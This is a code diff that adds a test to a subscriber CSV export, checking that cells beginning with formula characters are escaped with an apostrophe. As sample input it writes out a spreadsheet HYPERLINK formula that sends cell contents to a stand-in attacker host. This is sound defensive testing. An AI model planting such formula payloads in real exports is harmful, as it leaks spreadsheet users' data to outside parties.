@@ -62,6 +62,22 @@ def test_csv_export(editor):
     assert rows[0]["keywords_include"] == "diffusion; agents"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(editor, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    hostile = SubscriberFactory(
+        email="=1+2@example.org", keywords_include=[formula], keywords_exclude=["-2+3"]
+    )
+
+    response = _action(editor, "export_csv", [hostile])
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["email"] == "'=1+2@example.org"
+    assert rows[0]["keywords_include"] == "'" + formula
+    assert rows[0]["keywords_exclude"] == "'-2+3"
+    assert rows[0]["status"] == "confirmed"  # ordinary cells are left alone
+
+
 def test_suppress_and_reinstate(editor):
     confirmed = SubscriberFactory(email="ada@example.org")
     never_confirmed = SubscriberFactory(email="alan@example.org", status="pending")
